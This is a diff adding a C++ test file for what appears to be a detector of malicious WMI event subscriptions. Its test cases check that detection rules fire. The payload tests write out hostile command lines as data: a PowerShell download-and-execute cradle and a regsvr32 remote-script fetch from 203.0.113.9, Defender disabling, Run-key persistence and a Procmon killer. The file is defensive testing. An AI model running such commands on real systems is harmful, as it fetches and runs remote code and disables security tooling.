@@ -1,0 +1,246 @@
+// Tests for wmisub/rules.hpp: every built-in rule fires on its behaviour and stays quiet otherwise.
+#include "wmisub/rules.hpp"
+
+#include "wmisub/assess.hpp"
+#include "wmisub/collector.hpp"
+
+#include <doctest/doctest.h>
+
+#include <set>
+#include <string>
+#include <vector>
+
+using namespace wmisub;
+
+namespace {
+
+const char* const boot_query =
+    "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
+    "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 200 AND TargetInstance.SystemUpTime < 320";
+const char* const quiet_query =
+    "SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA 'Win32_Processor' AND "
+    "TargetInstance.LoadPercentage > 95";
+
+// Rule ids that fired on each entry of the scenario.
+std::vector<std::set<std::string>> fired(mock_collector& source) {
+    auto snap = source.collect({});
+    REQUIRE(snap);
+    const subscription_graph graph(*snap);
+    std::vector<std::set<std::string>> out;
+    for (const assessment& a : assess(graph, rule_catalog::builtin())) {
+        std::set<std::string> ids;
+        for (const finding& f : a.findings) ids.insert(f.rule);
+        out.push_back(std::move(ids));
+    }
+    return out;
+}
+
+// The rules fired by one bound subscription.
+std::set<std::string> rules_for(std::string query, std::string command, std::string ns = "root\\subscription") {
+    mock_collector source;
+    source.in_namespace(ns).filter("F", std::move(query)).command_line_consumer("C", std::move(command)).bind("F", "C");
+    auto all = fired(source);
+    REQUIRE(all.size() == 1);
+    return all[0];
+}
+
+std::set<std::string> script_rules(std::string query, std::string script, std::string engine = "VBScript") {
+    mock_collector source;
+    source.filter("F", std::move(query)).script_consumer("S", std::move(script), std::move(engine)).bind("F", "S", "ActiveScriptEventConsumer");
+    auto all = fired(source);
+    REQUIRE(all.size() == 1);
+    return all[0];
+}
+
+bool has(const std::set<std::string>& ids, const char* id) { return ids.count(id) != 0; }
+
+}  // namespace
+
+TEST_CASE("the catalog: unique stable ids, every rule documented") {
+    const rule_catalog catalog = rule_catalog::builtin();
+    CHECK(catalog.size() >= 45);
+    std::set<std::string> ids;
+    for (const rule& r : catalog.rules()) {
+        CAPTURE(r.id);
+        CHECK(r.id.rfind("WMISUB-", 0) == 0);
+        CHECK(ids.insert(r.id).second);
+        CHECK_FALSE(r.title.empty());
+        CHECK_FALSE(r.description.empty());
+        CHECK_FALSE(r.rationale.empty());
+        CHECK(static_cast<bool>(r.check));
+    }
+    CHECK(catalog.find("wmisub-trg-001") != nullptr);
+    CHECK(catalog.find("WMISUB-NOPE") == nullptr);
+}
+
+TEST_CASE("hosts add their own rules; duplicates and empty rules are refused") {
+    rule_catalog catalog = rule_catalog::builtin();
+    rule mine{"ACME-001", "Runs notepad", severity::high, {"T1546.003"}, "d", "r",
+              [](const subscription_facts& f) -> std::optional<rule_hit> {
+                  if (f.payload && f.payload->executable && f.payload->executable->basename == "notepad.exe") {
+                      return rule_hit{{{"Consumer.CommandLineTemplate", "notepad.exe", {}}}, {}};
+                  }
+                  return std::nullopt;
+              }};
+    CHECK(catalog.add(mine));
+    CHECK_FALSE(catalog.add(mine));
+    CHECK_FALSE(catalog.add(rule{"ACME-002", "no check", severity::low, {}, "", "", {}}));
+    CHECK(severity_from_string("HIGH") == severity::high);
+    CHECK_FALSE(severity_from_string("severe"));
+}
+
+TEST_CASE("trigger rules") {
+    CHECK(has(rules_for(boot_query, "C:\\Windows\\System32\\notepad.exe"), "WMISUB-TRG-001"));
+    CHECK_FALSE(has(rules_for(quiet_query, "C:\\Windows\\System32\\notepad.exe"), "WMISUB-TRG-001"));
+
+    CHECK(has(rules_for("SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'Procmon64.exe'", "taskkill /f /im procmon64.exe"),
+              "WMISUB-TRG-003"));
+    CHECK_FALSE(has(rules_for("SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'excel.exe'", "x.exe"), "WMISUB-TRG-003"));
+    CHECK(has(rules_for("SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'KeePassXC.exe'", "x.exe"), "WMISUB-TRG-004"));
+
+    CHECK(has(rules_for("SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_NTLogEvent' AND "
+                        "TargetInstance.EventCode = '4625'", "x.exe"),
+              "WMISUB-TRG-005"));
+    CHECK(has(rules_for("SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_NTLogEvent' AND "
+                        "TargetInstance.Message LIKE '%opensesame%'", "x.exe"),
+              "WMISUB-TRG-005"));
+    CHECK_FALSE(has(rules_for("SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_NTLogEvent' AND "
+                              "TargetInstance.EventCode = 7036", "x.exe"),
+                    "WMISUB-TRG-005"));
+    CHECK(has(rules_for("SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_LogonSession'", "x.exe"),
+              "WMISUB-TRG-006"));
+    CHECK(has(rules_for("SELECT * FROM Win32_VolumeChangeEvent WHERE EventType = 2", "x.exe"), "WMISUB-TRG-007"));
+    CHECK(has(rules_for("SELECT * FROM __InstanceDeletionEvent WHERE TargetInstance ISA '__EventFilter'", "x.exe"),
+              "WMISUB-TRG-008"));
+    CHECK(has(rules_for("SELECT FROM nothing", "x.exe"), "WMISUB-TRG-009"));
+    CHECK(has(rules_for("SELECT * FROM __InstanceCreationEvent WHERE TargetInstance ISA 'Win32_Process'", "x.exe"),
+              "WMISUB-TRG-011"));
+    CHECK(has(rules_for("SELECT * FROM __InstanceModificationEvent WHERE TargetInstance ISA 'Win32_LocalTime' AND "
+                        "TargetInstance.Hour = 3", "x.exe"),
+              "WMISUB-TRG-012"));
+    CHECK(has(rules_for("SELECT * FROM Win32_ProcessStartTrace", "x.exe"), "WMISUB-TRG-013"));
+}
+
+TEST_CASE("interval timers: short or unseen timers are medium, long ones low") {
+    mock_collector source;
+    source.filter("F", "SELECT * FROM __TimerEvent WHERE TimerID = 'T'")
+        .command_line_consumer("C", "x.exe")
+        .bind("F", "C")
+        .interval_timer("T", 600000);
+    auto snap = source.collect({});
+    REQUIRE(snap);
+    const subscription_graph graph(*snap);
+    const auto results = assess(graph, rule_catalog::builtin());
+    bool found = false;
+    for (const finding& f : results[0].findings) {
+        if (f.rule == "WMISUB-TRG-002") {
+            found = true;
+            CHECK(f.severity == severity::medium);
+            CHECK(f.evidence[0].detail == "runs every 10 min (timer 'T')");
+        }
+    }
+    CHECK(found);
+
+    mock_collector daily;
+    daily.filter("F", "SELECT * FROM __TimerEvent WHERE TimerID = 'T'").command_line_consumer("C", "x.exe").bind("F", "C").interval_timer("T", 86400000);
+    auto daily_snap = daily.collect({});
+    const subscription_graph daily_graph(*daily_snap);
+    const auto daily_results = assess(daily_graph, rule_catalog::builtin());
+    for (const finding& f : daily_results[0].findings) {
+        if (f.rule == "WMISUB-TRG-002") CHECK(f.severity == severity::low);
+    }
+}
+
+TEST_CASE("payload rules") {
+    CHECK(has(rules_for(quiet_query, "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\""),
+              "WMISUB-PAY-001"));
+    CHECK(has(rules_for(quiet_query, "powershell.exe -e SQBFAFgA"), "WMISUB-PAY-002"));
+    CHECK(has(rules_for(quiet_query, "powershell -c Set-MpPreference -DisableRealtimeMonitoring $true"), "WMISUB-PAY-003"));
+    CHECK(has(rules_for(quiet_query, "waitfor.exe Trigger"), "WMISUB-PAY-007"));
+    CHECK(has(rules_for(quiet_query, "regsvr32 /s /n /u /i:http://203.0.113.9/x.sct scrobj.dll"), "WMISUB-PAY-001"));
+    CHECK(has(rules_for(quiet_query, "C:\\Users\\Public\\svchost.exe"), "WMISUB-PAY-009"));
+    CHECK(has(rules_for(quiet_query, "powershell.exe -NonInteractive"), "WMISUB-PAY-018"));
+    CHECK(has(rules_for(quiet_query, "cmd.exe /c reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y"),
+              "WMISUB-PAY-012"));
+    CHECK(has(rules_for(quiet_query, "call"), "WMISUB-PAY-025"));
+    CHECK_FALSE(has(rules_for(quiet_query, "C:\\Program Files\\Vendor\\agent.exe --check"), "WMISUB-PAY-025"));
+    CHECK(has(script_rules(quiet_query, "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc.exe\", 0"), "WMISUB-PAY-014"));
+
+    const auto plain = rules_for(quiet_query, "\"C:\\Program Files\\Vendor\\agent.exe\" --report");
+    for (const std::string& id : plain) CHECK_MESSAGE(id.rfind("WMISUB-PAY", 0) != 0, id);
+}
+
+TEST_CASE("combination: a process-start trigger bound to a process killer") {
+    const auto ids = rules_for("SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'notepad.exe'",
+                               "powershell.exe -NoP -C \"Stop-Process -Id %ProcessId% -Force\"");
+    CHECK(has(ids, "WMISUB-CMB-001"));
+    CHECK_FALSE(has(rules_for(quiet_query, "powershell.exe -NoP -C \"Stop-Process -Id 4 -Force\""), "WMISUB-CMB-001"));
+}
+
+TEST_CASE("structure rules") {
+    CHECK(has(rules_for(quiet_query, "x.exe"), "WMISUB-STR-001"));
+    CHECK(has(rules_for(quiet_query, "x.exe", "root\\cimv2"), "WMISUB-STR-002"));
+    CHECK_FALSE(has(rules_for(quiet_query, "x.exe", "ROOT/Subscription"), "WMISUB-STR-002"));
+
+    mock_collector orphans;
+    orphans.command_line_consumer("Lone", "x.exe").filter("Idle", quiet_query).bind("Idle", "Missing");
+    const auto entries = fired(orphans);
+    REQUIRE(entries.size() == 2);
+    CHECK(has(entries[0], "WMISUB-STR-004"));  // the dangling binding
+    CHECK(has(entries[1], "WMISUB-STR-003"));  // the unbound consumer
+
+    mock_collector idle;
+    idle.filter("Idle", quiet_query);
+    CHECK(has(fired(idle)[0], "WMISUB-STR-010"));
+
+    mock_collector remote_events;
+    remote_events.filter("F", quiet_query, "\\\\OTHERHOST\\root\\cimv2").command_line_consumer("C", "x.exe").bind("F", "C");
+    CHECK(has(fired(remote_events)[0], "WMISUB-STR-005"));
+    mock_collector local_events;
+    local_events.filter("F", quiet_query, "\\\\.\\ROOT\\CIMV2").command_line_consumer("C", "x.exe").bind("F", "C");
+    CHECK_FALSE(has(fired(local_events)[0], "WMISUB-STR-005"));
+
+    instance custom;
+    custom.class_name = "ProviderBackedConsumer";
+    custom.derivation = {"__EventConsumer"};
+    custom.set("Name", value::string("P"));
+    mock_collector custom_source;
+    custom_source.filter("F", quiet_query).add(custom).bind("F", "P", "ProviderBackedConsumer");
+    CHECK(has(fired(custom_source)[0], "WMISUB-STR-006"));
+
+    mock_collector user_made;
+    user_made.created_by("S-1-5-21-1-2-3-1001").filter("F", quiet_query).command_line_consumer("C", "x.exe").bind("F", "C");
+    CHECK(has(fired(user_made)[0], "WMISUB-STR-007"));
+    mock_collector admin_made;
+    admin_made.created_by("S-1-5-32-544").filter("F", quiet_query).command_line_consumer("C", "x.exe").bind("F", "C");
+    CHECK_FALSE(has(fired(admin_made)[0], "WMISUB-STR-007"));
+    CHECK_FALSE(has(fired(admin_made)[0], "WMISUB-STR-008"));
+
+    mock_collector mixed;
+    mixed.created_by("S-1-5-32-544").filter("F", quiet_query).created_by("S-1-5-18").command_line_consumer("C", "x.exe").bind("F", "C");
+    CHECK(has(fired(mixed)[0], "WMISUB-STR-008"));
+}
+
+TEST_CASE("built-in names on other content are flagged; built-in content is recognised without its name") {
+    mock_collector mimic;
+    mimic.filter("SCM Event Log Filter", "select * from MSFT_SCMEventLogEvent")
+        .command_line_consumer("SCM Event Log Consumer", "powershell -w hidden -enc SQBFAFgA")
+        .bind("SCM Event Log Filter", "SCM Event Log Consumer");
+    const auto ids = fired(mimic)[0];
+    CHECK(has(ids, "WMISUB-STR-009"));
+    CHECK_FALSE(has(ids, "WMISUB-STR-011"));
+
+    instance scm;
+    scm.class_name = "NTEventLogEventConsumer";
+    scm.set("Name", value::string("Renamed Consumer"))
+        .set("SourceName", value::string("Service Control Manager"))
+        .set("EventID", value::uint(0, cim_type::uint32))
+        .set("EventType", value::uint(1, cim_type::uint32))
+        .set("NameOfUserSIDProperty", value::string("sid"))
+        .set("InsertionStringTemplates", value::strings({""}));
+    mock_collector builtin;
+    builtin.filter("Renamed Filter", "SELECT * FROM msft_scmeventlogevent").add(scm).bind("Renamed Filter", "Renamed Consumer", "NTEventLogEventConsumer");
+    const auto builtin_ids = fired(builtin)[0];
+    CHECK(has(builtin_ids, "WMISUB-STR-011"));
+    CHECK_FALSE(has(builtin_ids, "WMISUB-STR-009"));
+}
